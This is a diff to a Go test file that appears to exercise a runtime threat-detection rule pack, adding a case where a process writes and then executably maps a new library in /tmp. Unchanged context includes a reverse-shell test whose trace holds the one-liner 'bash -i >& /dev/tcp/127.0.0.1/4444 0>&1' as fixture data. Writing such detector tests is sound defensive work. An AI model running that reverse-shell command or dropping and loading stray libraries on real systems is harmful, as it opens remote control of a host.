@@ -143,6 +143,12 @@ func TestDefaultPack(t *testing.T) {
 				exec(21, 7, "/tmp/kx", "/tmp/kx"),
 			app().ev(trace.Event{Kind: trace.KindOpen, PID: 7, PPID: 1, Path: "/tmp/upload-1.json", Flags: oWrite | oCreat, Ret: 3}).
 				exec(21, 7, "/usr/bin/convert", "convert", "/tmp/upload-1.json", "/tmp/out.png")},
+		{"Execution:Runtime/NewLibraryLoaded",
+			app().exec(22, 7, "/bin/sh", "sh", "-c", "cat > /tmp/libx.so").
+				ev(trace.Event{Kind: trace.KindOpen, PID: 22, PPID: 7, Path: "/tmp/libx.so", Flags: oWrite | oCreat | oTrunc, Ret: 3}).
+				ev(trace.Event{Kind: trace.KindExecMapping, PID: 7, PPID: 1, Comm: "node", Path: "/tmp/libx.so", Flags: 4}),
+			app().ev(trace.Event{Kind: trace.KindOpen, PID: 7, PPID: 1, Comm: "node", Path: "/tmp/cache.bin", Flags: oWrite | oCreat, Ret: 3}).
+				ev(trace.Event{Kind: trace.KindExecMapping, PID: 7, PPID: 1, Comm: "node", Path: "/usr/lib/x86_64-linux-gnu/libssl.so.3", Flags: 4})},
 		{"Execution:Runtime/ReverseShell",
 			app().exec(30, 7, "/bin/bash", "bash", "-c", "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1").
 				ev(trace.Event{Kind: trace.KindConnect, PID: 30, PPID: 7, NetFamily: 2, NetProto: 6, DstAddr: "127.0.0.1", DstPort: 4444}),
